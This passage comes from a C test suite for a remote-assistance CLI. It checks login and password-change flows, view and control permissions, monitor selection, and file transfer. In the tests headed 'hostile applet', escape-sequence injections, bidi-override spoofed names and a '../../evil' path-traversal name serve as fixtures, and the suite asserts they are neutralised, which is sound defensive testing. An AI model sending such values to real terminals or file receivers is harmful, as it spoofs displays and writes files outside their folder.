	cli(&r, prof, pw_line, "--json", "login", "--user", TECH,
	    "--password-stdin", NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_nonnull(strstr(r.out, "\"user\":\"alice\""));
	run_clear(&r);

	/* not logged in: pin new says what to do */
	cli(&r, none, NULL, "pin", "new", NULL);
	g_assert_cmpint(r.status, ==, 6);
	g_assert_nonnull(strstr(r.err, "not logged in"));
	run_clear(&r);

	/* an existing wider profile directory is made private */
	g_assert_cmpint(chmod(prof, 0755), ==, 0);
	cli(&r, prof, NULL, "session", "list", NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_cmpint(mode_of(prof) & 07777, ==, 0700);
	run_clear(&r);

	profile = prof;
	g_free(tok_path);
	g_free(token);
	g_free(none);
	g_free(pw_line);
}

/*
 * A one-time password: login keeps the token but says, with exit 6,
 * that the password must be changed first; every other command says so
 * too; `password change` (old and new on two stdin lines) refuses a
 * wrong old password and then changes it; after that the token works
 * and the new password logs in.
 */
static void test_password_change(void)
{
	char *prof = new_profile("p-otp");
	g_autofree char *out = NULL, *err = NULL, *otp = NULL;
	g_autofree char *otp_line = NULL, *wrong = NULL, *good = NULL;
	g_autofree char *new_line = NULL;
	struct run r = { 0 };

	g_assert_cmpint(lh_relay_cmd(relay, NULL, &out, &err, "technician",
				     "add", "olga", NULL),
			==, 0);
	otp = g_strstrip(g_strdup(out));
	lh_secret("password", otp);
	lh_secret("password", "Olga-Own-Pw-2468");
	otp_line = g_strdup_printf("%s\n", otp);
	wrong = g_strdup_printf("not-the-otp-000\nOlga-Own-Pw-2468\n");
	good = g_strdup_printf("%s\nOlga-Own-Pw-2468\n", otp);
	new_line = g_strdup("Olga-Own-Pw-2468\n");

	cli(&r, prof, otp_line, "login", "--user", "olga", "--password-stdin",
	    NULL);
	g_assert_cmpint(r.status, ==, 6);
	g_assert_nonnull(strstr(r.err, "one-time password"));
	g_assert_nonnull(strstr(r.err, "password change"));
	g_assert_null(strstr(r.err, otp));
	run_clear(&r);
	cli(&r, prof, otp_line, "--json", "login", "--user", "olga",
	    "--password-stdin", NULL);
	g_assert_cmpint(r.status, ==, 6);
	g_assert_nonnull(strstr(r.out, "\"password_change_required\""));
	run_clear(&r);

	cli(&r, prof, NULL, "session", "list", NULL);
	g_assert_cmpint(r.status, ==, 6);
	g_assert_nonnull(strstr(r.err, "password change"));
	run_clear(&r);

	cli(&r, prof, wrong, "password", "change", NULL);
	g_assert_cmpint(r.status, ==, 6);
	g_assert_nonnull(strstr(r.err, "old password is wrong"));
	run_clear(&r);
	cli(&r, prof, otp_line, "password", "change", NULL);
	g_assert_cmpint(r.status, ==, 2);
	g_assert_nonnull(strstr(r.err, "no new password"));
	run_clear(&r);

	cli(&r, prof, good, "password", "change", NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_cmpstr(r.out, ==, "password changed\n");
	g_assert_null(strstr(r.out, "Olga-Own-Pw"));
	g_assert_null(strstr(r.err, "Olga-Own-Pw"));
	run_clear(&r);

	cli(&r, prof, NULL, "session", "list", NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	cli(&r, prof, new_line, "login", "--user", "olga", "--password-stdin",
	    NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_true(g_str_has_prefix(r.out, "logged in as "));
	run_clear(&r);
	g_free(prof);
}

/*
 * Who sits there (issue 9 item 4), as the applet says after view: `session
 * status --json` names them; a bidi override in the name is shown as
 * U+FFFD.
 */
static void user_info_shown(struct fa *f, GArray *evs, const char *id)
{
	struct ll_control_msg ui = { .type = LL_CONTROL_USER_INFO };
	struct run r = { 0 };
	int64_t end;

	ui.u.user_info.name = "Jane \xe2\x80\xae"
			      "Doe";
	ui.u.user_info.host = "pc-01";
	fa_control(f, &ui);
	end = lh_now_ms() + 10000;
	do {
		run_clear(&r);
		cli_pumping(&r, f, evs, profile, "--json", "session", "status",
			    id, NULL);
		g_assert_cmpint(r.status, ==, 0);
	} while (strstr(r.out, "\"user\"") == NULL && lh_now_ms() < end);
	g_assert_nonnull(strstr(r.out, "\"user\":\"Jane \xef\xbf\xbd"
				       "Doe on pc-01\""));
	run_clear(&r);
}

static void test_view_then_control(void)
{
	struct pin p = { 0 };
	struct run r = { 0 };
	struct ll_control_msg *m, rv = { .type = LL_CONTROL_REVOKE };
	struct fa *f;
	GArray *evs = g_array_new(FALSE, TRUE, sizeof(struct rfb_event));
	char *png = g_build_filename(lh_tmpdir(), "p-snap.png", NULL);
	GdkPixbuf *pb;
	GError *gerr = NULL;
	const uint8_t *px;
	uint8_t rgb[3];
	bool saw_press = false, saw_e_acute = false, saw_cyr = false;
	bool saw_cjk = false;
	int64_t end;
	guint i;
	int x, y;

	g_assert_nonnull(profile);
	pin_new("view", &p);
	cli(&r, profile, NULL, "session", "status", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_true(g_str_has_prefix(r.out, "waiting for the user\n"));
	run_clear(&r);

	f = fa_join(p.pin);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	g_assert_cmpuint(m->u.request.caps, ==, LL_CAP_VIEW);
	fa_grant(f, m->u.request.id, LL_CAP_VIEW);
	ll_control_msg_free(m);

	cli_pumping(&r, f, NULL, profile, "session", "wait", p.id, "--timeout",
		    "20", NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_cmpstr(r.out, ==, "view\n");
	run_clear(&r);

	/* input without control: refused, clearly */
	cli_pumping(&r, f, evs, profile, "session", "click", p.id, "1", "1",
		    NULL);
	g_assert_cmpint(r.status, ==, 3);
	g_assert_nonnull(strstr(r.err, "not allowed control"));
	run_clear(&r);
	cli_pumping(&r, f, evs, profile, "session", "type", p.id, "hi", NULL);
	g_assert_cmpint(r.status, ==, 3);
	run_clear(&r);
	cli_pumping(&r, f, evs, profile, "session", "key", p.id, "Return",
		    NULL);
	g_assert_cmpint(r.status, ==, 3);
	run_clear(&r);

	/* the screen: a snapshot is exactly what the applet sent */
	fa_rfb_open(f);
	cli_pumping(&r, f, evs, profile, "session", "snapshot", p.id, png,
		    NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	pb = gdk_pixbuf_new_from_file(png, &gerr);
	g_assert_no_error(gerr);
	g_assert_cmpint(gdk_pixbuf_get_width(pb), ==, FB_W);
	g_assert_cmpint(gdk_pixbuf_get_height(pb), ==, FB_H);
	for (y = 0; y < FB_H; y++) {
		for (x = 0; x < FB_W; x++) {
			px = gdk_pixbuf_get_pixels(pb) +
			     y * gdk_pixbuf_get_rowstride(pb) +
			     x * gdk_pixbuf_get_n_channels(pb);
			fb_color(x, y, rgb);
			g_assert_cmpmem(px, 3, rgb, 3);
		}
	}
	g_object_unref(pb);
	g_assert_cmpuint(evs->len, ==, 0); /* nothing leaked through */

	/* ask for control and wait for the grant: input arrives */
	f->answer_request = true;
	f->answer_caps = LL_CAP_CONTROL;
	cli_pumping(&r, f, evs, profile, "session", "request", p.id, "control",
		    NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_cmpstr(r.out, ==, "ok\n");
	g_assert_cmpuint(f->asked_caps, ==, LL_CAP_CONTROL);
	run_clear(&r);
	cli_pumping(&r, f, evs, profile, "session", "wait", p.id, "--timeout",
		    "20", NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_cmpstr(r.out, ==, "view\ncontrol\n");
	run_clear(&r);

	user_info_shown(f, evs, p.id);

	cli_pumping(&r, f, evs, profile, "session", "click", p.id, "3", "4",
		    "--button", "3", NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	cli_pumping(&r, f, evs, profile, "session", "type", p.id,
		    "a\xc3\xa9\xd0\x96\xe4\xb8\xad", NULL);
	/* a, e-acute (Latin-1), Cyrillic Zhe (legacy keysym), U+4E2D
	 * (no legacy keysym: 0x01000000 | code point) */
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	/* events travel on after the CLI returned: until they are here */
	end = lh_now_ms() + 10000;
	for (i = 0; !(saw_press && saw_e_acute && saw_cyr && saw_cjk) &&
		    lh_now_ms() < end;) {
		fa_pump(f, 50);
		fa_rfb_serve(f, evs);
		for (; i < evs->len; i++) {
			struct rfb_event *e = &g_array_index(evs,
							     struct rfb_event,
							     i);

			if (e->type == 5 && e->a == 4 && e->x == 3 &&
			    e->y == 4)
				saw_press = true;
			if (e->type == 4 && e->a == 0xe9 && e->down)
				saw_e_acute = true;
			if (e->type == 4 && e->a == 0x6f6 && e->down)
				saw_cyr = true; /* Cyrillic_ZHE */
			if (e->type == 4 && e->a == (0x01000000u | 0x4e2d) &&
			    e->down)
				saw_cjk = true;
		}
	}
	g_assert_true(saw_press);
	g_assert_true(saw_e_acute);
	g_assert_true(saw_cyr);
	g_assert_true(saw_cjk);

	/* a bad key name is a usage error, not a keystroke */
	cli_pumping(&r, f, evs, profile, "session", "key", p.id,
		    "NoSuchKeyName", NULL);
	g_assert_cmpint(r.status, ==, 2);
	run_clear(&r);

	/* the user takes control back: once the holder has heard it (its
	 * status is a round trip to it), input is refused again */
	rv.u.revoke.caps = LL_CAP_CONTROL;
	fa_control(f, &rv);
	end = lh_now_ms() + 10000;
	do {
		run_clear(&r);
		cli_pumping(&r, f, evs, profile, "session", "status", p.id,
			    NULL);
		g_assert_cmpint(r.status, ==, 0);
	} while (strstr(r.out, "control") != NULL && lh_now_ms() < end);
	g_assert_null(strstr(r.out, "control"));
	run_clear(&r);
	cli_pumping(&r, f, evs, profile, "session", "click", p.id, "1", "1",
		    NULL);
	g_assert_cmpint(r.status, ==, 3);
	run_clear(&r);

	/* end from the agent: the applet hears "end", the holder goes */
	cli_pumping(&r, f, evs, profile, "session", "end", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_cmpstr(r.out, ==, "ended\n");
	run_clear(&r);
	m = fa_expect(f, LL_CONTROL_END);
	ll_control_msg_free(m);
	assert_holder_gone(profile, p.id);
	cli(&r, profile, NULL, "session", "status", p.id, NULL);
	g_assert_cmpint(r.status, ==, 5);
	run_clear(&r);

	fa_free(f);
	g_array_unref(evs);
	g_free(png);
	pin_clear(&p);
}

static void check_snapshot(const char *png, int w, int h)
{
	GError *gerr = NULL;
	GdkPixbuf *pb = gdk_pixbuf_new_from_file(png, &gerr);
	const uint8_t *px;
	uint8_t rgb[3];
	int x, y;

	g_assert_no_error(gerr);
	g_assert_cmpint(gdk_pixbuf_get_width(pb), ==, w);
	g_assert_cmpint(gdk_pixbuf_get_height(pb), ==, h);
	for (y = 0; y < h; y++) {
		for (x = 0; x < w; x++) {
			px = gdk_pixbuf_get_pixels(pb) +
			     y * gdk_pixbuf_get_rowstride(pb) +
			     x * gdk_pixbuf_get_n_channels(pb);
			fb_color(x, y, rgb);
			g_assert_cmpmem(px, 3, rgb, 3);
		}
	}
	g_object_unref(pb);
}

static void test_monitors(void)
{
	struct pin p = { 0 };
	struct run r = { 0 };
	struct ll_control_msg *m;
	struct fa *f;
	char *png = g_build_filename(lh_tmpdir(), "p-mon.png", NULL);
	char long_name[70];
	uint32_t id;

	g_assert_nonnull(profile);
	pin_new("view", &p);
	f = fa_join(p.pin);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	id = m->u.request.id;
	ll_control_msg_free(m);

	/* Before view: refused here, and not a message to the applet. */
	cli_pumping(&r, f, NULL, profile, "session", "monitors", p.id, NULL);
	g_assert_cmpint(r.status, ==, 3);
	g_assert_nonnull(strstr(r.err, "not allowed viewing"));
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "session", "monitor", p.id, "DP-1",
		    NULL);
	g_assert_cmpint(r.status, ==, 3);
	run_clear(&r);
	/* (had it gone out, the applet would count it first: n_select is
	 * checked once the first allowed choice is answered, below) */

	fa_grant(f, id, LL_CAP_VIEW);
	cli_pumping(&r, f, NULL, profile, "session", "wait", p.id, "--timeout",
		    "20", NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	fa_rfb_open(f);
	fa_send_monitors(f, "all");

	cli_pumping(&r, f, NULL, profile, "session", "monitors", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_cmpstr(r.out, ==,
			"all 1424x768+0+0 *\n"
			"DP-1 1024x768+400+0\n"
			"HDMI-2 400x300-400+100\n");
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "--json", "session", "monitors",
		    p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_nonnull(strstr(r.out, "\"current\":\"all\""));
	g_assert_nonnull(strstr(r.out, "{\"name\":\"HDMI-2\",\"x\":-400,"
				       "\"y\":100,\"width\":400,"
				       "\"height\":300}"));
	run_clear(&r);

	/* The choice: select_monitor out, the new list back, and the
	 * framebuffer takes the monitor's size. */
	f->answer_monitors = true;
	cli_pumping(&r, f, NULL, profile, "session", "monitor", p.id, "HDMI-2",
		    NULL);
	g_assert_cmpint(r.status, ==, 0);
	/* The first select_monitor the applet got: the holder sends in
	 * order, so none went out while viewing was not allowed. */
	g_assert_cmpint(f->n_select, ==, 1);
	g_assert_cmpstr(r.out, ==,
			"all 1424x768+0+0\n"
			"DP-1 1024x768+400+0\n"
			"HDMI-2 400x300-400+100 *\n");
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "session", "snapshot", p.id, png,
		    NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	check_snapshot(png, FB2_W, FB2_H);

	/* Unknown: the applet's reason, exit 1; the session goes on. */
	cli_pumping(&r, f, NULL, profile, "session", "monitor", p.id, "VGA-9",
		    NULL);
	g_assert_cmpint(r.status, ==, 1);
	g_assert_nonnull(strstr(r.err, "no monitor named \"VGA-9\""));
	g_assert_cmpint(f->n_select, ==, 2);
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "--json", "session", "monitor", p.id,
		    "VGA-9", NULL);
	g_assert_cmpint(r.status, ==, 1);
	g_assert_nonnull(strstr(r.out, "\"code\":\"no_monitor\""));
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "session", "status", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_true(g_str_has_prefix(r.out, "viewing\n"));
	run_clear(&r);

	/* Names the protocol refuses never leave. */
	memset(long_name, 'x', 65);
	long_name[65] = '\0';
	cli_pumping(&r, f, NULL, profile, "session", "monitor", p.id,
		    long_name, NULL);
	g_assert_cmpint(r.status, ==, 2);
	run_clear(&r);
	g_assert_cmpint(f->n_select, ==, 3);

	cli_pumping(&r, f, NULL, profile, "session", "monitor", p.id, "all",
		    NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_true(g_str_has_prefix(r.out, "all 1424x768+0+0 *\n"));
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "session", "snapshot", p.id, png,
		    NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	check_snapshot(png, FB_W, FB_H);

	cli_pumping(&r, f, NULL, profile, "session", "end", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	assert_holder_gone(profile, p.id);
	fa_free(f);
	g_free(png);
	pin_clear(&p);
}

/* ---- a hostile applet's words ---- */

#define CSI "\xc2\x9b"     /* U+009B, a C1 control: ESC [ on some terminals */
#define RLO "\xe2\x80\xae" /* U+202E, right-to-left override */
#define FFFD "\xef\xbf\xbd"

/* Names the control schema lets through (it keeps C0 out of them). */
static const struct ll_control_monitor evil_mons[] = {
	{ "all", 0, 0, 1424, 768 },
	{ "DP-1" RLO "exe.txt", 400, 0, 1024, 768 },
	{ CSI "2J" CSI "31mHDMI-2", -400, 100, 400, 300 },
};

static void assert_nothing_raw(const char *s)
{
	g_assert_null(strstr(s, CSI));
	g_assert_null(strstr(s, RLO));
	g_assert_null(strchr(s, '\x1b'));
	g_assert_null(strchr(s, '\x07'));
	g_assert_true(g_utf8_validate(s, -1, NULL));
}

static void test_hostile_names(void)
{
	struct ll_control_msg mons = { .type = LL_CONTROL_MONITORS };
	struct pin p = { 0 };
	struct run r = { 0 };
	struct ll_control_msg *m;
	struct fa *f;
	uint32_t id;

	g_assert_nonnull(profile);
	pin_new("view", &p);
	f = fa_join(p.pin);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	id = m->u.request.id;
	ll_control_msg_free(m);
	fa_grant(f, id, LL_CAP_VIEW);
	cli_pumping(&r, f, NULL, profile, "session", "wait", p.id, "--timeout",
		    "20", NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	fa_rfb_open(f);
	mons.u.monitors.list = (struct ll_control_monitor *)evil_mons;
	mons.u.monitors.n = G_N_ELEMENTS(evil_mons);
	mons.u.monitors.current = (char *)evil_mons[2].name;
	fa_control(f, &mons);

	cli_pumping(&r, f, NULL, profile, "session", "monitors", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_cmpstr(r.out, ==,
			"all 1424x768+0+0\n"
			"DP-1" FFFD "exe.txt 1024x768+400+0\n" FFFD "2J" FFFD
			"31mHDMI-2 "
			"400x300-400+100 *\n");
	assert_nothing_raw(r.out);
	assert_nothing_raw(r.err);
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "--json", "session", "monitors",
		    p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_nonnull(
		strstr(r.out, "\"current\":\"" FFFD "2J" FFFD "31mHDMI-2\""));
	assert_nothing_raw(r.out);
	run_clear(&r);

	/* The applet's refusal, with an OSC title sequence and overrides. */
	f->answer_monitors = true;
	f->refusal = "gone\x1b]0;pwned\x07" CSI RLO "!";
	cli_pumping(&r, f, NULL, profile, "session", "monitor", p.id, "VGA-9",
		    NULL);
	g_assert_cmpint(r.status, ==, 1);
	g_assert_nonnull(strstr(r.err,
				"the applet refused monitor VGA-9: "
				"gone" FFFD "]0;pwned" FFFD FFFD FFFD "!"));
	assert_nothing_raw(r.err);
	assert_nothing_raw(r.out);
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "--json", "session", "monitor", p.id,
		    "VGA-9", NULL);
	g_assert_cmpint(r.status, ==, 1);
	g_assert_nonnull(strstr(r.out, "\"code\":\"no_monitor\""));
	assert_nothing_raw(r.out);
	assert_nothing_raw(r.err);
	run_clear(&r);

	cli_pumping(&r, f, NULL, profile, "session", "end", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	assert_holder_gone(profile, p.id);
	fa_free(f);
	pin_clear(&p);
}

/* ---- a hostile applet's file (issue 13) ---- */

static int n_entries(const char *dir)
{
	GDir *d = g_dir_open(dir, 0, NULL);
	int n = 0;

	while (d != NULL && g_dir_read_name(d) != NULL)
		n++;
	if (d != NULL)
		g_dir_close(d);
	return n;
}

/*
 * An offer of the 4 bytes data (SHA-256 sha), named the n-th of the
 * shared hostile names (it passes the schema), made before anyone
 * receives: kept by the holder, `session wait` announces it once, as
 * `offer NAME (N bytes)` with the name made safe (no bidi override, no
 * C1 control); `session receive` saves it inside dir under
 * ll_xfer_safe_name's name, prints that name without the raw controls,
 * and nothing lands beside dir (in base).
 */
static void hostile_offer(struct fa *f, const struct pin *p, const char *base,
			  const char *dir, size_t n, const char *data,
			  const char *sha)
{
	const char *name = lt_hostile_names[n].name;
	struct ll_control_msg offer = { .type = LL_CONTROL_FILE_OFFER };
	uint16_t ch = (uint16_t)(3 + 2 * n);
	char safe[LL_XFER_NAME_MAX + 1];
	struct run r = { 0 };
	char *path, *says, *told;
	char *logp = g_strdup_printf("%s/%s.log", profile, p->id);

	/* the channel first, then its offer, as the applet does */
	g_assert_cmpint(ll_mux_open(f->mux, ch), ==, 0);
	fa_flush(f);
	offer.u.file_offer.channel = ch;
	offer.u.file_offer.name = (char *)name;
	offer.u.file_offer.size = strlen(data);
	g_strlcpy(offer.u.file_offer.sha256, sha,
		  sizeof(offer.u.file_offer.sha256));
	fa_control(f, &offer);
	f->file_ch = ch;
	f->file_data = data;
	/* kept by the holder (its n+1-th): `session wait` tells of it,
	 * once */
	ll_xfer_safe_name(name, safe, sizeof(safe));
	g_assert_cmpstr(safe, ==, lt_hostile_names[n].saved);
	g_assert_true(lt_wait_file(logp, 0,
				   "the user offers a file; waiting for",
				   (int)n + 1, 10000));
	cli_pumping(&r, f, NULL, profile, "session", "wait", p->id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	told = g_strdup_printf("files\noffer %s (4 bytes)\n", safe);
	g_assert_cmpstr(r.out, ==, told);
	assert_nothing_raw(r.out);
	run_clear(&r);
	g_free(told);
	cli_pumping(&r, f, NULL, profile, "session", "wait", p->id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_cmpstr(r.out, ==, "files\n");
	run_clear(&r);
	cli_pumping(&r, f, NULL, profile, "session", "receive", p->id, dir,
		    "--timeout", "20", NULL);
	g_assert_cmpint(r.status, ==, 0);
	g_assert_null(strchr(safe, '/'));
	g_assert_null(strstr(safe, RLO));
	path = g_build_filename(dir, safe, NULL);
	says = g_strdup_printf("saved %s (4 bytes, SHA-256 %s)\n", path, sha);
	g_assert_cmpstr(r.out, ==, says);
	assert_nothing_raw(r.out);
	g_assert_true(g_file_test(path, G_FILE_TEST_IS_REGULAR));
	g_assert_cmpint(n_entries(dir), ==, (int)n + 1);
	g_assert_cmpint(n_entries(base), ==, 1); /* nothing beside DIR */
	run_clear(&r);
	g_free(says);
	g_free(path);
	g_free(logp);
}

/*
 * An offer that `session receive` takes into a folder that is not there:
 * refused, the command answered once ("cannot create the file there",
 * exit 1) and the holder goes on (`session status`).  n: the offers the
 * holder was told of before.
 */
static void missing_folder(struct fa *f, const struct pin *p, const char *base,
			   size_t n, const char *data, const char *sha)
{
	struct ll_control_msg offer = { .type = LL_CONTROL_FILE_OFFER };
	uint16_t ch = (uint16_t)(3 + 2 * n);
	char *missing = g_build_filename(base, "not-there", NULL);
	char *logp = g_strdup_printf("%s/%s.log", profile, p->id);
	struct run r = { 0 };

	g_assert_cmpint(ll_mux_open(f->mux, ch), ==, 0);
	fa_flush(f);
	offer.u.file_offer.channel = ch;
	offer.u.file_offer.name = "report.txt";
	offer.u.file_offer.size = strlen(data);
	g_strlcpy(offer.u.file_offer.sha256, sha,
		  sizeof(offer.u.file_offer.sha256));
	fa_control(f, &offer);
	g_assert_true(lt_wait_file(logp, 0,
				   "the user offers a file; waiting for",
				   (int)n + 1, 10000));
	cli_pumping(&r, f, NULL, profile, "session", "receive", p->id, missing,
		    "--timeout", "20", NULL);
	g_assert_cmpint(r.status, ==, 1);
	g_assert_nonnull(strstr(r.err, "cannot create the file there"));
	run_clear(&r);
	g_assert_false(g_file_test(missing, G_FILE_TEST_EXISTS));
	cli_pumping(&r, f, NULL, profile, "session", "status", p->id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	g_free(logp);
	g_free(missing);
}

/*
 * Offers the technician never asked for, of each of the shared hostile
 * names (tests/common/lt_names.h), one after the other (hostile_offer).
 * Then a name that climbs out of the folder: a malformed message, which
 * ends the session; nothing written.
 */
static void test_hostile_file(void)
{
	static const char data[] = "four";
	char *base = g_build_filename(lh_tmpdir(), "recv-hostile", NULL);
	char *dir = g_build_filename(base, "in", NULL), *sha, *says;
	struct ll_control_msg *m;
	struct pin p = { 0 };
	struct run r = { 0 };
	struct fa *f;
	uint32_t id;
	size_t i;

	g_assert_nonnull(profile);
	/* a clean slate: an earlier run's file would make a twin */
	g_assert_true(g_spawn_sync(NULL, (char *[]){ "rm", "-rf", base, NULL },
				   NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, NULL,
				   NULL, NULL, NULL));
	g_assert_cmpint(g_mkdir_with_parents(dir, 0700), ==, 0);
	pin_new("files", &p);
	f = fa_join(p.pin);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	id = m->u.request.id;
	ll_control_msg_free(m);
	fa_grant(f, id, LL_CAP_FILES);
	cli_pumping(&r, f, NULL, profile, "session", "wait", p.id, "--timeout",
		    "20", NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);

	sha = g_compute_checksum_for_string(G_CHECKSUM_SHA256, data, -1);
	for (i = 0; i < lt_n_hostile_names; i++)
		hostile_offer(f, &p, base, dir, i, data, sha);
	missing_folder(f, &p, base, lt_n_hostile_names, data, sha);

	/* a name with a path: the schema's error ends the session, nothing
	 * is written */
	says = g_strdup_printf("{\"type\":\"file_offer\",\"channel\":5,"
			       "\"name\":\"../../evil\",\"size\":4,"
			       "\"sha256\":\"%s\"}",
			       sha);
	fa_raw(f, says);
	cli_pumping(&r, f, NULL, profile, "session", "receive", p.id, dir,
		    "--timeout", "20", NULL);
	g_assert_cmpint(r.status, ==, 5);
	g_assert_nonnull(strstr(r.err, "must be a plain file name"));
	g_assert_cmpint(n_entries(dir), ==, (int)lt_n_hostile_names);
	g_assert_cmpint(n_entries(base), ==, 1);
	run_clear(&r);
	assert_holder_gone(profile, p.id);
	fa_free(f);
	pin_clear(&p);
	g_free(says);
	g_free(sha);
	g_free(dir);
	g_free(base);
}

/*
 * The holder sends a file straight from the file into the channel's
 * frames (ll_session_io_bridge_source): a hostile receiver writes on the
 * sender's channel, cancels in the middle, closes the channel in the
 * middle, asks to resume past the end.  Each ends that transfer as
 * docs/API.md says, and the holder lives on for the next.
 */
static void hostile_send_once(struct fa *f, const struct pin *p,
			      const char *path, uint64_t offset, bool cancel,
			      int status, const char *says)
{
	struct run r = { 0 };

	f->hostile_send = true;
	f->send_offset = offset;
	f->send_after = 1; /* in the middle: the file is 64 chunks */
	f->send_cancel = cancel;
	f->send_ch = 0;
	f->send_in = 0;
	f->send_ended = false;
	cli_pumping(&r, f, NULL, profile, "session", "send", p->id, path,
		    "--timeout", "3", NULL);
	g_assert_cmpint(r.status, ==, status);
	g_assert_nonnull(strstr(r.err, says));
	g_assert_cmpuint(f->send_ch, !=, 0);
	if (offset == 0)
		g_assert_cmpuint(f->send_in, >, 0);
	else
		g_assert_cmpuint(f->send_in, ==, 0);
	run_clear(&r);
	f->hostile_send = false;
	/* the holder is still there and answers */
	cli_pumping(&r, f, NULL, profile, "session", "status", p->id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
}

static void test_hostile_send(void)
{
	char *path = g_build_filename(lh_tmpdir(), "send-hostile.bin", NULL);
	size_t size = 64 * LL_XFER_CHUNK;
	char *data = g_malloc(size);
	struct ll_control_msg *m;
	struct pin p = { 0 };
	struct run r = { 0 };
	struct fa *f;
	uint32_t id;

	g_assert_nonnull(profile);
	memset(data, 'x', size);
	g_assert_true(g_file_set_contents(path, data, (gssize)size, NULL));
	pin_new("files", &p);
	f = fa_join(p.pin);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	id = m->u.request.id;
	ll_control_msg_free(m);
	fa_grant(f, id, LL_CAP_FILES);
	cli_pumping(&r, f, NULL, profile, "session", "wait", p.id, "--timeout",
		    "20", NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);

	hostile_send_once(f, &p, path, 0, true, 1, "cancelled");
	/* the channel closed under the sender: no file_done ever comes */
	hostile_send_once(f, &p, path, 0, false, 4, "");
	hostile_send_once(f, &p, path, size + 1, false, 1, "past the end");

	/* and ends as any session: no holder outlives the test */
	cli_pumping(&r, f, NULL, profile, "session", "end", p.id, NULL);
	g_assert_cmpint(r.status, ==, 0);
	run_clear(&r);
	assert_holder_gone(profile, p.id);
	fa_free(f);
	pin_clear(&p);
	g_free(data);
	g_free(path);
}

/* ---- system information and clipboard (issue 13) ---- */

#define SYSINFO_JSON(host, memfree)                                           \
	"{\"type\":\"sysinfo\",\"os\":\"Debian GNU/Linux 12\","               \
	"\"kernel\":\"Linux 6.1.0 x86_64\",\"host\":\"" host "\","            \
	"\"cpu\":\"Ryzen 5\",\"cpus\":8,\"memory_total\":17179869184,"        \
	"\"memory_free\":" memfree ",\"uptime\":93784,"                       \
	"\"disks\":[{\"mount\":\"/\",\"fs\":\"ext4\",\"total\":"              \
	"107374182400,\"free\":42949672960}],"                                \
	"\"interfaces\":[{\"name\":\"eth0\",\"addresses\":"                   \
	"[\"192.0.2.7/24\",\"fe80::1/64\"]}],"                                \
	"\"displays\":[{\"name\":\"DP-1\",\"width\":1920,\"height\":1080}]}"

/* A joined session whose user granted caps (asked at pin new). */
static struct fa *sysinfo_session(struct pin *p, uint32_t caps)
{
	struct ll_control_msg *m;
	struct run r = { 0 };
	struct fa *f;

	pin_new("sysinfo", p);
	f = fa_join(p->pin);
	m = fa_expect(f, LL_CONTROL_REQUEST);
	g_assert_cmpuint(m->u.request.caps, ==, LL_CAP_SYSINFO);
	if (caps != 0)
		fa_grant(f, m->u.request.id, caps);
	else
		fa_control(f, &(struct ll_control_msg){
				      .type = LL_CONTROL_DENY,
				      .u.deny.id = m->u.request.id });
	ll_control_msg_free(m);
	cli_pumping(&r, f, NULL, profile, "session", "wait", p->id,
		    "--timeout", "20", NULL);
	g_assert_cmpint(r.status, ==, caps != 0 ? 0 : 3);
	run_clear(&r);
	return f;
}

/* The holder's log says needle (within a few seconds). */
static void holder_log_has(const struct pin *p, const char *needle)
{
	char *logp = g_strdup_printf("%s/%s.log", profile, p->id);

	g_assert_true(lt_wait_file(logp, 0, needle, 1, 10000));
	g_free(logp);
}

/*
 * session sysinfo: refused without the grant (nothing sent); with it, the
 * applet's answer as lines and as JSON, its strings through the display
 * rule; clipboard text from an applet that was not granted it is dropped;
 * a sysinfo breaking the schema (free memory over the total) ends the
 * session with the field named, and the holder goes without a crash.
 */
static void test_sysinfo(void)
{
	struct pin p = { 0 };
	struct run r = { 0 };
	struct fa *f;

	g_assert_nonnull(profile);
	f = sysinfo_session(&p, 0);
	cli_pumping(&r, f, NULL, profile, "session", "sysinfo", p.id, NULL);
	g_assert_cmpint(r.status, ==, 3);
